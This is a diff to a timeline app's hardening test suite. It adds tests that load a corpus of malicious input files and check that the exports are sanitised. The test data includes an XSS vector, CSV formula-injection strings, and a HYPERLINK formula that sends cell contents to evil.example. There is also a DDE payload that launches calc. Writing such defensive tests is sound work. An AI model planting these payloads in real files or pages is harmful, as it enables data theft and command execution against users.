@@ -18,13 +18,15 @@ from typing import Any
 import pytest
 
 from tests.conftest import ROOT
+from tests.hardening.fuzzing import check_exports
 from tests.hardening.published import TAGS, html_problems, timelinejs_problems, url_problem
 from timeline_app.core.convert import export_bytes
 from timeline_app.core.csv_formula import MARKER
 from timeline_app.core.csv_import import import_csv
 from timeline_app.core.html_safe import ALLOWED_TAGS
 from timeline_app.core.html_text import one_line, plain_text
-from timeline_app.core.loading import load_bytes
+from timeline_app.core.loading import load_bytes, load_path
+from timeline_app.core.problems import LoadError
 from timeline_app.core.timelinejs import CLAIMS_CLASS
 
 # Markup vectors: elements that run, load or embed; event handlers; styles; URL schemes,
@@ -209,6 +211,37 @@ def test_html_problems_checker_catches_what_it_must() -> None:
     sanitiser's output has no comments, so the fuzzing's check is not blinded by it."""
     assert [m for m in MARKUP if not html_problems(m)] == ["<!--><img src=x onerror=alert(1)>-->"]
     assert html_problems('<p><a href="/x" title="t">a</a></p>') == []
+
+
+CORPUS = ROOT / "tests" / "corpus" / "bad"
+CASES = sorted(p.name for p in CORPUS.iterdir() if p.name != "MANIFEST.json")
+
+
+@pytest.mark.parametrize("name", CASES)
+def test_every_corpus_case_that_loads_exports_safely(name: str) -> None:
+    """Each hardening case that opens exports to every format (pictures included) with
+    nothing live in the TimelineJS output, no formula in the CSV, a well-formed SVG."""
+    path = CORPUS / name
+    try:
+        result = load_path(path)
+    except LoadError:
+        return
+    check_exports(result, path.read_bytes()[:300], name)
+
+
+def test_corpus_cases_of_this_issue_export_as_they_must() -> None:
+    hidden = load_path(CORPUS / "native-hidden-timelinejs-script.json").timeline
+    out, warnings = _export(hidden)
+    assert "document.cookie" not in json.dumps(out) and "sanitised for publishing" in warnings[0]
+    xss = load_path(CORPUS / "tjs-xss-every-vector.json").timeline
+    out, warnings = _export(xss, app_data=False)
+    assert timelinejs_problems(out) == [] and int(warnings[0].split()[4]) >= 100
+    own = load_path(CORPUS / "csv-own-export-formulas.csv").timeline
+    assert [e.title for e in own.events] == [
+        '=HYPERLINK("https://evil.example/?"&A1,"x")', "=cmd|' /C calc'!A0", "+1+1", "-2+3",
+        "@SUM(A1)", "'=quoted", "-5"]
+    other = load_path(CORPUS / "csv-third-party-apostrophes.csv").timeline
+    assert [e.title for e in other.events] == ["'=quoted", "'plain"]
 
 
 # -- CSV -----------------------------------------------------------------------------------
